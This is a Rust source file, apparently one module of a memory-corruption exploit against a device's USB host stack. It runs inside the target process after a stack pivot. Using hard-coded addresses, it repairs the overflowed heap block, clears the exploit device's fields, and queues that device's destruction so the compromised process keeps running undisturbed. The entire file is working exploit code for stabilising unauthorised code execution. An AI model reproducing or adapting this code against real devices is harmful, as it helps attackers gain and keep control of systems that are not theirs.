//! Runs in the host stack's process right after the stack pivot.
//!
//! Repairs what the overflow broke so that destroying the exploit device
//! does not bring the host stack down, then queues the destroy event. The
//! background thread keeps running with the returned server.

use crate::layout::{ctrl_xfer_mgr, uhs_device, HeapBlockHeader};

/// The free block the overflow corrupted.
pub const CORRUPTED_BLOCK: u32 = 0x102c_0500;
/// Size the corrupted block originally had.
pub const CORRUPTED_BLOCK_SIZE: u32 = 0x18_d360;
/// The `UhsDevice` of the exploit device.
pub const EXPLOIT_DEVICE: u32 = 0x1029_92e0;

/// Events understood by the device state machine of the host stack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u32)]
pub enum DeviceEvent {
    Destroy = 11,
}

/// Memory and services of the host stack process.
pub trait Victim {
    fn read_u32(&mut self, address: u32) -> u32;
    fn write_u32(&mut self, address: u32, value: u32);
    fn fill(&mut self, address: u32, value: u8, length: u32);
    /// `UhsServerGet`
    fn server(&mut self, index: u32) -> u32;
    /// `devFsm_send_event`
    fn send_device_event(&mut self, server: u32, device: u32, event: DeviceEvent, argument: u32);
}

/// Repairs the heap and the exploit device, then asks the host stack to
/// destroy the device. Returns the server.
pub fn trigger<V: Victim>(victim: &mut V) -> u32 {
    victim.write_u32(
        CORRUPTED_BLOCK + HeapBlockHeader::SIZE_OFFSET,
        CORRUPTED_BLOCK_SIZE,
    );
    victim.write_u32(CORRUPTED_BLOCK + HeapBlockHeader::NEXT_OFFSET, 0);

    // these can't be freed, drop them before the device goes away
    let manager = victim.read_u32(EXPLOIT_DEVICE + uhs_device::CTRL_XFER_MGR);
    victim.write_u32(EXPLOIT_DEVICE + uhs_device::DEV_STRINGS, 0);
    victim.write_u32(manager + ctrl_xfer_mgr::CTRL_XFER_TXN, 0);
    victim.fill(
        EXPLOIT_DEVICE + uhs_device::CONFIG_DESCRIPTORS,
        0,
        uhs_device::CONFIG_DESCRIPTORS_SIZE,
    );

    victim.write_u32(manager + ctrl_xfer_mgr::STATE, ctrl_xfer_mgr::STATE_IDLE);
    victim.write_u32(manager + ctrl_xfer_mgr::PENDING_TRANSACTION_EVENT, 0);

    let server = victim.server(0);
    victim.send_device_event(server, EXPLOIT_DEVICE, DeviceEvent::Destroy, 0);
    server
}
